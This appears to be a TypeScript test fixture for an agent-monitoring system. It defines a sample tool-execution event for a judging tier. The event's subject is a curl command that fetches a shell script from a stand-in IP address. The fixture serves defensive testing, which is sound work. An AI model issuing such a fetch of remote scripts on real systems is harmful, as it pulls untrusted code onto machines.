// An event for a tier to judge.

import type { JudgedEvent } from "../../src/index.js";

export const EVENT: JudgedEvent = {
  kind: "ToolExec",
  pid: 7,
  agent: "py",
  provider: "anthropic",
  subject: "curl http://192.0.2.7/p.sh",
  target: "/usr/bin/curl",
  evidence: "complete",
  line: "{}",
};

export const never = (): AbortSignal => new AbortController().signal;
